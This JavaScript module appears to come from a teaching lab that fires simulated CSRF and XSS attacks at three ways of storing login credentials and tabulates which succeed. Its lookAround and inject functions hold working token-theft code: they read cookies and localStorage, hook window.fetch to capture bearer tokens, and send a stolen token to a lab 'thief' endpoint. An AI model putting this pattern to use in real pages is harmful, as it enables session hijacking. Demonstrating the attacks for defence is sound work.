/* CSRF and XSS, the same two attacks fired at all three: a foreign page forges a call, a script runs in this one. */

import { exclusively, step } from "./actions.js";
import { lab } from "./api.js";
import { send } from "./clients.js";
import { duration } from "./format.js";
import { decode } from "./jwt.js";
import { whose } from "./moment.js";
import { MODES, pageNow, state, TITLES } from "./state.js";
import { Button, html } from "./ui.js";

/** What injected script finds: readable cookies, localStorage, and the bearer header of the page's next request. */
async function lookAround(mode) {
  const found = { cookies: document.cookie.split("; ").map((pair) => pair.split("=")[0]).filter(Boolean), tokens: {} };
  for (const name of ["accessToken", "refreshToken"]) {
    const stored = localStorage.getItem(`lab.${mode}.${name}`);
    if (stored) Object.assign(found.tokens, { [name]: stored });
  }
  const genuine = window.fetch;
  window.fetch = (url, options) => {
    const token = options?.headers?.Authorization?.replace("Bearer ", "");
    if (token) found.tokens.accessToken = token;
    return genuine(url, options);
  };
  try {
    await send(mode, "GET", "me");
  } finally {
    window.fetch = genuine;
  }
  if (state.holds[mode].refreshToken) found.tokens.refreshToken = state.holds[mode].refreshToken; // the page sends it itself
  return found;
}

async function inject(mode) {
  const found = await lookAround(mode);
  const rode = await send(mode, "PATCH", "profile", { displayName: "changed by injected script" });
  const { accessToken } = found.tokens;
  const elsewhere = accessToken ? await lab("thief", { mode, call: "token", accessToken, clock: state.offset }) : null;
  return { found, rode, elsewhere };
}

export const fire = () =>
  exclusively(async () => {
    if (MODES.some((mode) => !state.holds[mode].as)) throw new Error("Sign in in all three columns first: an attack needs a victim.");
    const forgery = Object.fromEntries((await lab("forgery", { clock: state.offset })).map((row) => [row.mode, row]));
    const injected = {};
    for (const mode of MODES) injected[mode] = await inject(mode);
    await step("Foreign page forges PATCH profile", "csrf", Object.fromEntries(MODES.map((mode) => [mode, [forgery[mode].ignored]])));
    state.attacks = { forgery, injected, profile: state.truth[whose(MODES[0])].account.displayName };
  });

const Cell = ({ won, what, why }) => html`<td><b class=${won ? "no" : "yes"}>${won ? "⚠" : "✓"} ${what}</b><small>${why}</small></td>`;
const said = ({ status, code }) => `${status}${code ? ` ${code}` : ""}`;

const ROWS = [
  ["CSRF, as browsers are today", "A foreign page makes this browser PATCH the profile.", ({ forgery }) => ({
    won: forgery.honoured.status < 400, what: `refused: ${said(forgery.honoured)}`,
    why: "SameSite: the browser sent no cookie along, and it adds no bearer token for anybody." })],
  ["CSRF, cookies sent along", "An old browser, or an attacker on a sibling subdomain.", ({ forgery }) => {
    const { ignored } = forgery;
    const riding = ignored.cookies.filter((name) => name !== "csrftoken");
    return { won: ignored.status < 400, what: `${ignored.status < 400 ? "worked" : "refused"}: ${said(ignored)}`,
      why: ignored.code === "csrf_failed" ? `${riding.join(" and ")} came along; the CSRF token, which only this site's pages can read, did not.`
        : "The credential is no cookie that this call looks at: nothing rode along." };
  }],
  ["XSS reads the credential", "Script injected into this page looks around.", ({ injected }) => {
    const names = Object.keys(injected.found.tokens);
    return { won: names.length > 0, what: names.length ? `read ${names.join(" and ")}` : "could not read it",
      why: names.length ? "From memory or localStorage: whatever the page can send, its scripts can read." : `HttpOnly. It saw only: ${injected.found.cookies.join(", ") || "nothing"}.` };
  }],
  ["XSS acts as you", "It calls PATCH profile from here.", ({ injected }) => ({
    won: injected.rode.status < 400, what: `${injected.rode.status < 400 ? "worked" : "refused"}: ${said(injected.rode)}`,
    why: injected.rode.status < 400 ? "Same origin: the page's own credential goes along, and the CSRF token can be read."
      : "Only because the credential is over; script can sign in anew or renew it whenever the page can." })],
  ["XSS takes it away", "And uses it later, from elsewhere.", ({ injected }) => {
    if (!injected.elsewhere) return { won: false, what: "nothing to take", why: "What can't be read can't leave: the attack ends when the page is closed." };
    const left = decode(injected.found.tokens.accessToken).claims.exp - pageNow();
    const more = injected.found.tokens.refreshToken ? ", and then renews it with the refresh token" : "";
    const won = injected.elsewhere.status < 400;
    if (!won && injected.found.tokens.refreshToken) return { won: true, what: `not by the access token: ${said(injected.elsewhere)}`, why: "But the refresh token left too, and gets another." };
    return { won, what: `${won ? "worked" : "refused"}: ${said(injected.elsewhere)}`, why: won ? `In for ${duration(left)}${more}.` : "Worth nothing." };
  }],
];

export function Attacks() {
  const { attacks } = state;
  return html`<section class="card view" id="attacks"><div class="row"><h2>The same two attacks at all three</h2><${Button} disabled=${Boolean(state.busy)} press=${fire}>Fire both<//></div>
    <p class="dim">CSRF is played by the server: it sends what a browser would send for a foreign page, from https://evil.example. XSS is real: the script runs in this page,
      with this page's rights. Choose other carriers in the columns, sign in again, and fire again.</p>
    ${!attacks ? html`<p class="none">Sign in in all three columns, then press <b>Fire both</b>.</p>`
      : html`<table class="grid"><thead><tr><th>attack</th>${MODES.map((mode) => html`<th class=${`name ${mode}`}>${TITLES[mode]} <small>by ${state.holds[mode].carrier}</small></th>`)}</tr></thead>
        <tbody>${ROWS.map(([title, note, judge]) => html`<tr><th scope="row"><b>${title}</b><small>${note}</small></th>
          ${MODES.map((mode) => html`<${Cell} ...${judge({ forgery: attacks.forgery[mode], injected: attacks.injected[mode] })} />`)}</tr>`)}</tbody></table>
        <p>The profile now reads “${attacks.profile}”. <b>HttpOnly keeps a credential from leaving; nothing here keeps injected script from using it.</b> Don't have XSS.</p>`}
  </section>`;
}
